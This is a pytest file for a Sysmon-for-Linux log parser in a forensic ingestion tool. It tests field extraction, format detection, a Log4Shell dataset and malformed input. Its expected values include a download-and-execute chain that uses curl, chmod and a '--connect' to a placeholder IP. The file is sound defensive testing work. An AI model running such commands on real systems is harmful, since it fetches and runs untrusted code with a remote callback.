from __future__ import annotations

import io
import json
import zipfile
from collections import Counter
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.ingest.parsers.conftest import Parsed
from trailguard.ingest.base import ParseContext, Record, Rejected
from trailguard.ingest.parsers.sysmon_linux import SysmonLinuxParser

ParseFn = Callable[..., Parsed]
SniffFn = Callable[..., str | None]


def _text(raw: str | bytes) -> str:
    """A record's raw text (parsers may hand it over as str or as UTF-8 bytes)."""
    return raw if isinstance(raw, str) else raw.decode("utf-8")

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures" / "sysmon_linux"
LOG4SHELL = (Path("otrf") / "datasets" / "compound" / "Log4Shell"
             / "syslog_sysmon_log4shell_cve2021_44228_jndi_reference.zip")


def test_syslog_lines_with_sysmon_xml(parse: ParseFn) -> None:
    parsed = parse("sysmon_linux", (FIXTURES / "syslog_sysmon.log").read_bytes(), name="syslog")
    assert [r.position for r in parsed.records] == [1, 2, 3, 4, 7]
    assert [(r.position, r.reason) for r in parsed.rejected] == [
        (5, "no Sysmon <Event> in this line"),
        (6, "XML with a DOCTYPE/ENTITY declaration is refused")]
    create, network, file_create, truncated, delete = parsed.records

    assert create.data["EventID"] == 1
    assert create.data["Provider_Name"] == "Linux-Sysmon"
    assert create.data["Channel"] == "Linux-Sysmon/Operational"
    assert create.data["Computer"] == "web01"
    assert create.data["Execution_ProcessID"] == "712"
    assert create.data["Security_UserID"] == "0"
    assert create.data["TimeCreated"] == "2024-03-01T10:00:00.121934000Z"
    assert create.data["Image"] == "/usr/bin/curl"
    assert create.data["ParentUser"] == "www-data"
    assert create.data["envelope"] == {"timestamp": "Mar  1 10:00:00", "hostname": "web01",
                                       "program": "sysmon"}
    assert create.time == datetime(2024, 3, 1, 10, 0, 0, 120000)  # UtcTime
    assert create.normal == {
        "operation": "1", "category": "process", "host": "web01", "process_pid": 4242,
        "process_name": "/usr/bin/curl",
        "process_cmdline": "curl -s http://203.0.113.9/x -o /tmp/x",
        "process_guid": "{5e1d0a55-a9c0-65e1-4d12-6b2f7c550000}", "process_user": "www-data",
        "parent_pid": 4200, "parent_name": "/bin/dash",
        "parent_cmdline": "sh -c curl -s http://203.0.113.9/x -o /tmp/x",
        "parent_guid": "{5e1d0a55-a9bf-65e1-a5c1-0e3a1b550000}", "file_path": None,
        "src_ip": None, "src_port": None, "dst_ip": None, "dst_port": None, "protocol": None,
        "direction": None}

    assert (network.normal["src_ip"], network.normal["src_port"]) == ("10.0.0.5", 51100)
    assert (network.normal["dst_ip"], network.normal["dst_port"]) == ("203.0.113.9", 80)
    assert (network.normal["protocol"], network.normal["direction"]) == ("tcp", "out")
    assert network.normal["category"] == "network"

    assert file_create.data["Image"] == "< unknown process> "  # "&lt" without ";" repaired
    assert file_create.normal["file_path"] == "/tmp/x"
    assert file_create.normal["category"] == "file"

    assert truncated.data["truncated"] is True
    assert truncated.data["ParentCommandLine"] == (
        "sh -c chmod +x /tmp/x; /tmp/x --connect 203.0.113.9:443")
    assert truncated.data["CommandLine"] == "/tmp/x --connect 203.0.113.9:443"

    assert delete.data["EventID"] == 23
    assert "envelope" not in delete.data
    assert delete.normal["file_path"] == "/tmp/x"


def test_azure_monitor_rows(parse: ParseFn) -> None:
    parsed = parse("sysmon_linux", (FIXTURES / "azure_syslog.ndjson").read_bytes())
    assert [r.position for r in parsed.records] == [1, 3]
    assert [(r.position, r.reason) for r in parsed.rejected] == [
        (2, "SyslogMessage holds no Sysmon <Event>")]
    create = parsed.records[0]
    assert create.data["envelope"]["TimeGenerated"] == "2024-03-01T10:00:00.130Z"
    assert "SyslogMessage" not in create.data["envelope"]
    assert json.loads(_text(create.raw))["ProcessName"] == "sysmon"
    assert create.normal["process_name"] == "/usr/bin/curl"


def test_eventdata_names_colliding_without_case_go_under_eventdata(parse: ParseFn) -> None:
    xml = ('<Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID></System>'
           '<EventData><Data Name="Image">/a</Data><Data Name="eventid">x</Data>'
           '<Data Name="image">/b</Data></EventData></Event>')
    record = parse("sysmon_linux", xml.encode()).records[0]
    assert record.data["EventID"] == 1
    assert record.data["Image"] == "/a"
    assert record.data["EventData"] == {"eventid": "x", "image": "/b"}


def test_otrf_log4shell_sysmon(parse: ParseFn, shared_data: Path) -> None:
    with zipfile.ZipFile(shared_data / LOG4SHELL) as archive:
        (name,) = archive.namelist()
        data = archive.read(name)
    rows = [json.loads(line) for line in data.decode().splitlines() if line.strip()]
    parsed = parse("sysmon_linux", data, name=name)
    assert len(parsed.records) == len(rows) == 93
    assert not parsed.rejected
    expected = Counter(int(row["SyslogMessage"].split("<EventID>")[1].split("<")[0])
                       for row in rows)
    assert Counter(r.data["EventID"] for r in parsed.records) == expected == Counter(
        {5: 50, 1: 31, 3: 6, 11: 4, 23: 2})
    assert sum(1 for r in parsed.records if r.data.get("truncated")) == 1
    assert all(r.time is not None and r.normal["host"] == "UBUNTU5" for r in parsed.records)
    exploit = [r for r in parsed.records if r.data["EventID"] == 1
               and r.data.get("ParentImage", "").endswith("/java")
               and "base64" in r.data.get("CommandLine", "")]
    assert len(exploit) == 1
    shell = exploit[0]
    assert shell.data["User"] == "tomcat"
    assert shell.data["truncated"] is True  # ParentCommandLine cut by the syslog size limit
    assert shell.normal["parent_cmdline"].startswith("/usr/lib/jvm/java-1.8.0-openjdk")
    assert shell.normal["process_pid"] == 17790
    network = [r for r in parsed.records if r.data["EventID"] == 3]
    assert all(r.normal["dst_ip"] and r.normal["protocol"] in ("tcp", "udp") for r in network)
    ldap = [r for r in network if r.normal["dst_port"] == 1389]  # the JNDI/LDAP callback
    assert [(r.normal["process_name"], r.normal["dst_ip"]) for r in ldap] == [
        ("/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java", "192.168.2.6")]


# --- Sniffing -----------------------------------------------------------------------------------




def test_log4shell_file_is_sniffed_as_sysmon_linux(sniff: SniffFn, shared_data: Path) -> None:
    with zipfile.ZipFile(shared_data / LOG4SHELL) as archive:
        data = archive.read(archive.namelist()[0])
    assert sniff(data[:65536], "syslog_sysmon.json") == "sysmon_linux"


@pytest.mark.parametrize("sample", [
    b'<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>'
    b'<Provider Name="Microsoft-Windows-Sysmon"/><EventID>1</EventID></System></Event>\n',
    b'{"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Image": "C:\\\\x.exe"}\n',
    b"Mar  1 10:00:00 web01 sshd[1]: Accepted password for a from 192.0.2.1 port 2 ssh2\n",
    b"type=SYSCALL msg=audit(1604994496.155:92733): arch=c000003e syscall=59\n",
])
def test_other_formats_are_not_claimed(sample: bytes) -> None:
    assert SysmonLinuxParser.sniff(sample, "evidence.log") == 0


# --- Hostile input ------------------------------------------------------------------------------


def _run(data: bytes) -> list[Record | Rejected]:
    return list(SysmonLinuxParser().parse(io.BytesIO(data), ParseContext("x")))


def _check(items: list[Record | Rejected]) -> None:
    for item in items:
        assert isinstance(item, Record | Rejected)
        assert item.position > 0


@settings(max_examples=80, deadline=None)
@given(st.lists(st.text(max_size=160), max_size=8))
def test_random_xml_bodies_never_raise(parts: list[str]) -> None:
    body = "".join(f'<Data Name="{part[:8]}">{part}</Data>' for part in parts)
    line = (f'Mar  1 10:00:00 h sysmon: <Event><System><Provider Name="Linux-Sysmon"/>'
            f"<EventID>1</EventID></System><EventData>{body}</EventData></Event>")
    _check(_run(line.encode()))


@settings(max_examples=80, deadline=None)
@given(st.sampled_from(["syslog_sysmon.log", "azure_syslog.ndjson"]), st.floats(0, 1))
def test_truncated_fixtures_never_raise(name: str, fraction: float) -> None:
    data = (FIXTURES / name).read_bytes()
    _check(_run(data[: int(len(data) * fraction)]))
